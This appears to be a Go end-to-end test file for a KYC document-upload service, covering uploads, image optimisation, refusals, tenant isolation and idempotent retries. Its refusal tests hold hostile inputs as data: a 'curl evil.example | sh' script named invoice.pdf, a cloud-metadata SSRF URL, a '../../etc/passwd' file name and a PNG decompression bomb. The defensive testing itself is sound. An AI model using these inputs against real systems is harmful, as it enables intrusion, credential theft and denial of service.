package e2e

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/kycfield/kyc/e2e/harness"
	"github.com/kycfield/kyc/pkg/exiftest"
)

type documentView struct {
	ID           string `json:"id"`
	CustomerID   string `json:"customerId"`
	DocumentType string `json:"documentType"`
	FileName     string `json:"fileName"`
	FileURL      string `json:"fileUrl"`
	FileType     string `json:"fileType"`
	FileSize     int64  `json:"fileSize"`
	Verified     bool   `json:"verified"`
	Hosted       bool   `json:"hosted"`
	UploadedAt   string `json:"uploadedAt"`
	OriginalSize int64  `json:"originalSize"`
	SHA256       string `json:"sha256"`
}

// knownCustomer creates a customer and waits until the document service
// has learnt of it from customer.created (a few milliseconds).
func knownCustomer(t *testing.T, key string) string {
	t.Helper()
	c := create(t, key, newCustomer(nil))
	deadline := time.Now().Add(15 * time.Second)
	for {
		r := P.API(t, "GET", "/api/v1/customers/"+c.ID+"/documents", key, nil)
		if r.Status == http.StatusOK {
			return c.ID
		}
		if r.Status != http.StatusNotFound || time.Now().After(deadline) {
			t.Fatalf("document service never learnt of %s: %d %s", c.ID, r.Status, r.Body)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func docLink(name string) map[string]any {
	return map[string]any{"fileName": name, "fileUrl": "https://files.example.com/kyc/" + name, "fileType": "application/pdf",
		"fileSize": 183204, "documentType": "UTILITY_BILL"}
}

// uploadDoc posts a multipart form; documentType "" leaves its part out,
// and first puts it before the file.
func uploadDoc(t *testing.T, key, customerID, documentType, fileName string, file []byte) harness.Response {
	t.Helper()
	return uploadDocWith(t, key, customerID, documentType, fileName, file, nil)
}

// uploadDocWith is uploadDoc with extra headers; each call draws a new
// multipart boundary, as curl and most HTTP libraries do.
func uploadDocWith(t *testing.T, key, customerID, documentType, fileName string, file []byte, header map[string]string) harness.Response {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	fw, _ := mw.CreateFormFile("file", fileName)
	_, _ = fw.Write(file)
	if documentType != "" {
		_ = mw.WriteField("documentType", documentType)
	}
	_ = mw.Close()
	h := map[string]string{"Content-Type": mw.FormDataContentType()}
	for k, v := range header {
		h[k] = v
	}
	return P.Do(t, harness.Request{Method: "POST", URL: P.GatewayURL + "/api/v1/customers/" + customerID + "/documents", Key: key,
		Body: body.Bytes(), Header: h})
}

// download fetches a hosted document through the gateway by its fileUrl's
// path (the service's PUBLIC_URL is not the harness gateway's address).
func download(t *testing.T, key, fileURL string) harness.Response {
	t.Helper()
	u, err := url.Parse(fileURL)
	if err != nil {
		t.Fatal(err)
	}
	return P.API(t, "GET", u.Path, key, nil)
}

// bigPhoto is a 3000 x 2000 photo-like JPEG (quality 95) carrying EXIF
// with a GPS position, as a phone camera writes it.
func bigPhoto(t *testing.T) []byte {
	// 3.8 megapixels of noise, still wider than the 2000 px the service
	// fits to: under the race detector, with the suite's other uploads and
	// browser tests on two cores, a 12-megapixel decode outlasted the
	// gateway's 30 s and so did a 6-megapixel one once the suite grew
	// (12-megapixel photos are measured in BENCHMARKS.md section 8).
	img := image.NewRGBA(image.Rect(0, 0, 2400, 1600))
	r := rand.New(rand.NewPCG(3, 4))
	for i := range img.Pix {
		img.Pix[i] = uint8(r.IntN(256))
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 95}); err != nil {
		t.Fatal(err)
	}
	return exiftest.JPEG(b.Bytes(), exiftest.TIFF(6.4281, 3.4219, time.Now()))
}

func smallPNG() []byte {
	img := image.NewNRGBA(image.Rect(0, 0, 40, 30))
	for i := range img.Pix {
		img.Pix[i] = uint8(i * 13)
	}
	var b bytes.Buffer
	_ = png.Encode(&b, img)
	return b.Bytes()
}

// pngBomb declares w x h pixels in a valid header and holds no pixels.
func pngBomb(w, h uint32) []byte {
	ihdr := make([]byte, 17)
	copy(ihdr, "IHDR")
	binary.BigEndian.PutUint32(ihdr[4:], w)
	binary.BigEndian.PutUint32(ihdr[8:], h)
	ihdr[12], ihdr[13] = 8, 6
	out := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), ihdr...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(ihdr))
}

func TestDocumentsJSONFormAndList(t *testing.T) {
	t.Parallel()
	key := sandbox(t)
	cus := knownCustomer(t, key)
	r := P.API(t, "POST", "/api/v1/customers/"+cus+"/documents", key, docLink("nepa-bill.pdf"))
	if r.Status != http.StatusCreated {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	var d documentView
	r.Decode(t, &d)
	if !strings.HasPrefix(d.ID, "doc_") || d.Verified || d.Hosted || d.UploadedAt == "" || d.FileURL != "https://files.example.com/kyc/nepa-bill.pdf" ||
		d.DocumentType != "UTILITY_BILL" || d.FileSize != 183204 {
		t.Fatalf("document %+v", d)
	}
	// Sandbox accepts http; the URL's host is still checked (SSRF).
	plain := docLink("a.pdf")
	plain["fileUrl"] = "http://files.example.com/a.pdf"
	if r := P.API(t, "POST", "/api/v1/customers/"+cus+"/documents", key, plain); r.Status != 201 {
		t.Fatalf("sandbox http: %d %s", r.Status, r.Body)
	}
	for field, v := range map[string]any{"fileUrl": "http://169.254.169.254/latest/meta-data", "fileName": "../../etc/passwd",
		"fileType": "text/html", "fileSize": 10<<20 + 1, "documentType": "SELFIE"} {
		b := docLink("x.pdf")
		b[field] = v
		r := P.API(t, "POST", "/api/v1/customers/"+cus+"/documents", key, b)
		if r.Status != 400 || r.Code() != "VALIDATION_ERROR" || details(r)[field] == "" {
			t.Errorf("%s=%v: %d %s", field, v, r.Status, r.Body)
		}
	}
	l := P.API(t, "GET", "/api/v1/customers/"+cus+"/documents", key, nil)
	var list struct{ Documents []documentView }
	l.Decode(t, &list)
	if l.Status != 200 || len(list.Documents) != 2 || list.Documents[0].ID != d.ID {
		t.Fatalf("list %d %s", l.Status, l.Body)
	}
}

func TestDocumentsMultipartStoresOptimisesAndServes(t *testing.T) {
	t.Parallel()
	key := sandbox(t)
	cus := knownCustomer(t, key)

	// A PNG named .pdf is stored as the PNG it is.
	r := uploadDoc(t, key, cus, "ID_CARD", "scan.pdf", smallPNG())
	if r.Status != http.StatusCreated {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	var d documentView
	r.Decode(t, &d)
	if !d.Hosted || d.FileType != "image/png" || d.FileName != "scan.pdf" || d.SHA256 == "" ||
		!strings.HasSuffix(d.FileURL, "/api/v1/customers/"+cus+"/documents/"+d.ID+"/file") {
		t.Fatalf("document %+v", d)
	}
	g := download(t, key, d.FileURL)
	if g.Status != 200 || g.Header.Get("Content-Type") != "image/png" || g.Header.Get("Content-Length") != fmt.Sprint(d.FileSize) ||
		g.Header.Get("ETag") != `"`+d.SHA256+`"` || !strings.Contains(g.Header.Get("Content-Disposition"), "scan.png") {
		t.Fatalf("download %d %v", g.Status, g.Header)
	}

	// A large photo with GPS in its EXIF is fitted to 2000 px, shrunk and
	// stripped (read back from the stored object).
	raw := bigPhoto(t)
	r = uploadDoc(t, key, cus, "PASSPORT_PHOTO", "IMG_0001.jpg", raw)
	if r.Status != http.StatusCreated {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	r.Decode(t, &d)
	g = download(t, key, d.FileURL)
	cfg, format, err := image.DecodeConfig(bytes.NewReader(g.Body))
	if g.Status != 200 || err != nil || format != "jpeg" || cfg.Width != 2000 || cfg.Height != 1333 {
		t.Fatalf("stored %s %dx%d (%v, %d)", format, cfg.Width, cfg.Height, err, g.Status)
	}
	if d.OriginalSize != int64(len(raw)) || d.FileSize >= d.OriginalSize || int64(len(g.Body)) != d.FileSize {
		t.Fatalf("sizes: original %d, stored %d, downloaded %d", d.OriginalSize, d.FileSize, len(g.Body))
	}
	if bytes.Contains(g.Body, []byte("Exif")) || bytes.Contains(g.Body, exiftest.TIFF(6.4281, 3.4219, time.Now())[100:]) {
		t.Fatal("EXIF kept")
	}
	t.Logf("photo 2400x1600 %d bytes -> %dx%d %d bytes", len(raw), cfg.Width, cfg.Height, d.FileSize)

	// A PDF is stored byte for byte.
	pdf := []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
	r = uploadDoc(t, key, cus, "BANK_STATEMENT", "statement.pdf", pdf)
	r.Decode(t, &d)
	if g := download(t, key, d.FileURL); r.Status != 201 || d.FileType != "application/pdf" || !bytes.Equal(g.Body, pdf) {
		t.Fatalf("pdf: %d %s, download %q", r.Status, r.Body, g.Body)
	}
}

func TestDocumentUploadRefusals(t *testing.T) {
	t.Parallel()
	key := sandbox(t)
	cus := knownCustomer(t, key)
	photo := testJPEG(nil)
	tooBig := bytes.Repeat([]byte{' '}, 10<<20+1)
	copy(tooBig, "%PDF-1.4\n")
	cases := []struct {
		name, documentType, file string
		body                     []byte
		status                   int
		code                     string
	}{
		{"shell script named .pdf", "OTHER", "invoice.pdf", []byte("#!/bin/sh\ncurl evil.example | sh\n"), 415, "UNSUPPORTED_FILE_TYPE"},
		{"10 MiB + 1 byte", "BANK_STATEMENT", "big.pdf", tooBig, 413, "FILE_TOO_LARGE"},
		{"empty file", "OTHER", "empty.pdf", nil, 400, "VALIDATION_ERROR"},
		{"truncated JPEG", "ID_CARD", "id.jpg", photo[:len(photo)/2], 422, "INVALID_FILE"},
		{"image bomb", "ID_CARD", "bomb.png", pngBomb(50000, 50000), 422, "IMAGE_TOO_LARGE"},
		{"no documentType", "", "id.png", smallPNG(), 400, "VALIDATION_ERROR"},
	}
	for _, c := range cases {
		r := uploadDoc(t, key, cus, c.documentType, c.file, c.body)
		if r.Status != c.status || r.Code() != c.code {
			t.Errorf("%s: %d %s", c.name, r.Status, r.Body)
		}
		if c.name == "10 MiB + 1 byte" && !strings.Contains(r.Env.Error.Message, "10 MiB") {
			t.Errorf("413 does not name the limit: %s", r.Body)
		}
		if c.name == "no documentType" && details(r)["documentType"] == "" {
			t.Errorf("400 does not name documentType: %s", r.Body)
		}
	}
	r := P.Do(t, harness.Request{Method: "POST", URL: P.GatewayURL + "/api/v1/customers/" + cus + "/documents", Key: key,
		Body: "fileName=id.pdf", Header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}})
	if r.Status != 415 {
		t.Errorf("form-urlencoded: %d %s", r.Status, r.Body)
	}
	l := P.API(t, "GET", "/api/v1/customers/"+cus+"/documents", key, nil)
	if !strings.Contains(string(l.Body), `"documents":[]`) {
		t.Fatalf("a refused upload was recorded: %s", l.Body)
	}
}

func TestDocumentIsolationBetweenOrganizationsAndEnvironments(t *testing.T) {
	t.Parallel()
	org := P.NewOrg(t, "growth")
	_, key := P.NewKey(t, org, "test")
	_, liveKey := P.NewKey(t, org, "live")
	_, otherKey := P.NewKey(t, P.NewOrg(t, "growth"), "test")
	cus := knownCustomer(t, key)
	r := uploadDoc(t, key, cus, "ID_CARD", "id.png", smallPNG())
	var d documentView
	r.Decode(t, &d)
	for name, k := range map[string]string{"other organization": otherKey, "live key of the same organization": liveKey} {
		if r := download(t, k, d.FileURL); r.Status != 404 {
			t.Errorf("%s downloads: %d", name, r.Status)
		}
		if r := P.API(t, "GET", "/api/v1/customers/"+cus+"/documents", k, nil); r.Status != 404 {
			t.Errorf("%s lists: %d", name, r.Status)
		}
		if r := P.API(t, "POST", "/api/v1/customers/"+cus+"/documents", k, docLink("x.pdf")); r.Status != 404 {
			t.Errorf("%s appends: %d %s", name, r.Status, r.Body)
		}
	}
	_, readOnly := P.NewKey(t, org, "test", "kyc:read")
	if r := download(t, readOnly, d.FileURL); r.Status != 200 {
		t.Errorf("kyc:read key downloads: %d", r.Status)
	}
	if r := P.API(t, "POST", "/api/v1/customers/"+cus+"/documents", readOnly, docLink("x.pdf")); r.Status != 403 {
		t.Errorf("kyc:read key appends: %d", r.Status)
	}
	// Deleting the customer takes its documents away.
	if r := P.API(t, "DELETE", "/api/v1/customers/"+cus, key, nil); r.Status != 200 {
		t.Fatalf("delete: %d %s", r.Status, r.Body)
	}
	deadline := time.Now().Add(15 * time.Second)
	for download(t, key, d.FileURL).Status != 404 {
		if time.Now().After(deadline) {
			t.Fatal("a deleted customer's document is still served")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestDocumentLimitOfTwenty(t *testing.T) {
	t.Parallel()
	key := sandbox(t)
	cus := knownCustomer(t, key)
	for i := range 20 {
		if r := P.API(t, "POST", "/api/v1/customers/"+cus+"/documents", key, docLink(fmt.Sprintf("doc-%d.pdf", i))); r.Status != 201 {
			t.Fatalf("document %d: %d %s", i, r.Status, r.Body)
		}
	}
	if r := P.API(t, "POST", "/api/v1/customers/"+cus+"/documents", key, docLink("21.pdf")); r.Status != 409 || r.Code() != "DOCUMENT_LIMIT_REACHED" {
		t.Fatalf("21st link: %d %s", r.Status, r.Body)
	}
	if r := uploadDoc(t, key, cus, "OTHER", "21.png", smallPNG()); r.Status != 409 || r.Code() != "DOCUMENT_LIMIT_REACHED" {
		t.Fatalf("21st upload: %d %s", r.Status, r.Body)
	}
}

// Documents appended through the document service reach the customer's
// own read (GET /api/v1/customers/{id}) through document.added, after the
// documents sent at creation, and the verification status through the
// customer.updated that follows.
func TestAppendedDocumentsAppearOnTheCustomer(t *testing.T) {
	t.Parallel()
	key := sandbox(t)
	c := create(t, key, newCustomer(map[string]any{"documents": []map[string]any{{"documentType": "ID_CARD", "fileName": "id.jpg",
		"fileUrl": "https://files.example.com/id.jpg", "fileType": "image/jpeg", "fileSize": 2048}}}))
	deadline := time.Now().Add(15 * time.Second)
	var r harness.Response
	for {
		r = uploadDoc(t, key, c.ID, "UTILITY_BILL", "bill.png", smallPNG())
		if r.Status != http.StatusNotFound || time.Now().After(deadline) {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if r.Status != http.StatusCreated {
		t.Fatalf("upload: %d %s", r.Status, r.Body)
	}
	var d documentView
	r.Decode(t, &d)
	for {
		g := P.API(t, "GET", "/api/v1/customers/"+c.ID, key, nil)
		var got struct{ Documents []documentView }
		g.Decode(t, &got)
		// The verification service learns of the customer from
		// customer.created, so its status may answer 404 for a moment.
		st := P.API(t, "GET", "/api/v1/verification/"+c.ID+"/status", key, nil)
		var status struct{ Documents []documentView }
		if st.Status == http.StatusOK {
			st.Decode(t, &status)
		}
		if len(got.Documents) == 2 && len(status.Documents) == 2 {
			if got.Documents[0].DocumentType != "ID_CARD" || got.Documents[1].ID != d.ID || got.Documents[1].FileURL != d.FileURL ||
				got.Documents[1].FileType != "image/png" || status.Documents[1].ID != d.ID {
				t.Fatalf("documents %+v, on the status %+v", got.Documents, status.Documents)
			}
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the upload never reached the customer and its status: %s %s", g.Body, st.Body)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// A lender whose upload timed out sends it again with the same
// Idempotency-Key (its HTTP library drawing a new multipart boundary): it
// gets the first answer and the customer holds one document, not two; the
// same key with another file is refused.
func TestUploadRetriedWithIdempotencyKeyStoresOnce(t *testing.T) {
	t.Parallel()
	key := sandbox(t)
	cus := knownCustomer(t, key)
	idem := map[string]string{"Idempotency-Key": "upload-" + cus}
	first := uploadDocWith(t, key, cus, "UTILITY_BILL", "bill.png", smallPNG(), idem)
	if first.Status != http.StatusCreated {
		t.Fatalf("first upload: %d %s", first.Status, first.Body)
	}
	again := uploadDocWith(t, key, cus, "UTILITY_BILL", "bill.png", smallPNG(), idem)
	var a, b documentView
	first.Decode(t, &a)
	again.Decode(t, &b)
	if again.Status != http.StatusCreated || again.Header.Get("Idempotent-Replayed") != "true" || a.ID != b.ID {
		t.Fatalf("retry: %d %v %s (first %s)", again.Status, again.Header, again.Body, first.Body)
	}
	other := append(smallPNG(), 0) // one byte more
	if r := uploadDocWith(t, key, cus, "UTILITY_BILL", "bill.png", other, idem); r.Status != http.StatusUnprocessableEntity || r.Code() != "IDEMPOTENCY_KEY_REUSED" {
		t.Fatalf("same key, another file: %d %s", r.Status, r.Body)
	}
	var list struct{ Documents []documentView }
	P.API(t, "GET", "/api/v1/customers/"+cus+"/documents", key, nil).Decode(t, &list)
	if len(list.Documents) != 1 || list.Documents[0].ID != a.ID {
		t.Fatalf("the customer holds %+v, want only %s", list.Documents, a.ID)
	}
}
